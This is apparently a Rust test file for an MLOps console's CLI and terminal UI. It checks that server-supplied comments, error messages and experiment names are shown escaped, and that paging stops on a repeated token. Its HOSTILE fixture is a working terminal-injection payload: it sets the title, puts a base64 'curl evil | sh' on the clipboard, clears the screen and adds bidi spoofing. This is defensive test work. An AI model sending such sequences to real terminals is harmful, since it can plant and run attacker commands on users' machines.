//! A hostile or broken server cannot hurt the client: text it sends is shown escaped (never as
//! terminal control) in headless output and in the TUI, and paging stops on a repeated token.
//! Every server is on 127.0.0.1.

mod client_support;
mod headless_support;
mod support;

use crossterm::event::KeyCode;
use serde_json::Value;

use client_support::{Reply, Server};
use mlops_console::app::{ExperimentPage, Payload, ResourceKey};
use mlops_console::ops::approvals::{ApprovalSource, PendingApproval, PendingList};
use support::{Driver, NOW, session};

/// Sets the terminal title, puts `curl evil | sh` on the clipboard, clears the screen, and
/// reverses the text after it.
const HOSTILE: &str =
    "ok\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\u{9b}31m\u{202e}evil\u{2066}";

/// Bytes that a terminal acts on instead of showing.
fn terminal_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

#[tokio::test]
async fn approvals_shows_a_hostile_comment_escaped_and_json_keeps_it_exact() {
    let sim = headless_support::sim().await;
    headless_support::client(&sim)
        .create_transition_request("fraud_model", "1", "Staging", Some(HOSTILE))
        .await
        .unwrap();

    let table = headless_support::on(&sim, &["approvals"]).await;
    assert_eq!(table.code, 0, "stderr: {}", table.stderr);
    assert_eq!(
        terminal_controls(&table.stdout),
        Vec::<char>::new(),
        "{}",
        table.stdout
    );
    assert!(
        table
            .stdout
            .contains(r"ok\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"),
        "{}",
        table.stdout
    );
    assert!(table.stdout.contains(r"\u{9b}31m\u{202e}evil\u{2066}"));

    let json = headless_support::on(&sim, &["approvals", "--json"]).await;
    assert_eq!(
        terminal_controls(&json.stdout),
        Vec::<char>::new(),
        "{}",
        json.stdout
    );
    let v: Value = json.json();
    let comments: Vec<&str> = v["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["comment"].as_str())
        .collect();
    assert!(comments.contains(&HOSTILE), "{comments:?}");
}

#[tokio::test]
async fn a_server_error_message_reaches_stderr_escaped() {
    let body = serde_json::json!({ "error_code": "BAD_REQUEST", "message": HOSTILE }).to_string();
    let server = Server::start(move |_, _| Reply::json(400, body.clone())).await;
    let out = headless_support::cli(&server.url(), "t", &["experiments"]).await;
    assert_ne!(out.code, 0);
    assert_eq!(
        terminal_controls(&out.stderr),
        Vec::<char>::new(),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains(r"ok\x1b]0;pwned\x07"), "{}", out.stderr);
}

#[test]
fn the_approvals_screen_shows_a_hostile_comment_escaped() {
    let mut d = Driver::new(session());
    d.char('4');
    // The Overview may have asked already: the answer goes to whichever request is current.
    let req = d
        .try_req(ResourceKey::Approvals)
        .or(d.state.approvals.list.pending)
        .expect("approvals requested");
    d.answer(
        req,
        Payload::Approvals(Box::new(PendingList {
            items: vec![PendingApproval {
                source: ApprovalSource::Workspace,
                model: "fraud\x1b[2J_model".into(),
                version: "4".into(),
                to_stage: Some("Production".into()),
                requested_by: Some("priya\u{202e}moc.emca@".into()),
                since_ms: Some(NOW),
                comment: Some(HOSTILE.into()),
            }],
            notes: vec![],
            incomplete: None,
        })),
    );
    let screen = d.screen_text(200, 30);
    assert_eq!(terminal_controls(&screen), Vec::<char>::new(), "{screen}");
    assert!(screen.contains(r"fraud\x1b[2J_model"), "{screen}");
    assert!(screen.contains(r"ok\x1b]0;pwned\x07"), "{screen}");
    assert!(screen.contains(r"priya\u{202e}moc.emca@"), "{screen}");
}

#[tokio::test]
async fn experiments_stops_when_the_server_repeats_its_page_token() {
    let server = Server::start(|_, _| {
        Reply::json(
            200,
            r#"{"experiments":[{"experiment_id":"1","name":"a"}],"next_page_token":"same"}"#,
        )
    })
    .await;
    let out = headless_support::cli(&server.url(), "t", &["experiments"]).await;
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert!(out.stderr.contains("page token"), "{}", out.stderr);
    assert!(server.seen().len() <= 3, "{} requests", server.seen().len());
}

#[test]
fn the_experiments_screen_stops_asking_when_the_next_page_token_repeats() {
    let mut d = Driver::new(session());
    d.char('2');
    let page = |append| {
        Payload::Experiments(Ok(ExperimentPage {
            experiments: support::many_experiments(0, 1),
            next_page_token: Some("same".into()),
            append,
        }))
    };
    let mut asked = 0;
    while let Some(req) = d.try_req(ResourceKey::ExperimentList) {
        asked += 1;
        assert!(asked < 10, "still asking after {asked} requests");
        d.answer(req, page(asked > 1));
    }
    assert!(asked <= 3, "{asked} requests");
    let screen = d.screen_text(120, 30);
    assert!(screen.contains("page token"), "{screen}");
    d.key(KeyCode::End);
    assert_eq!(d.try_req(ResourceKey::ExperimentList), None);
}

#[test]
fn the_experiments_screen_shows_hostile_names_and_tags_escaped() {
    let mut rows = support::many_experiments(0, 1);
    rows[0].name = "/Shared/\x1b]0;pwned\x07\u{202e}gnp.exe".into();
    let mut d = Driver::new(session());
    d.open_experiments(rows, None);
    let screen = d.screen_text(120, 30);
    assert_eq!(terminal_controls(&screen), Vec::<char>::new(), "{screen}");
    assert!(
        screen.contains(r"/Shared/\x1b]0;pwned\x07\u{202e}gnp.exe"),
        "{screen}"
    );
}
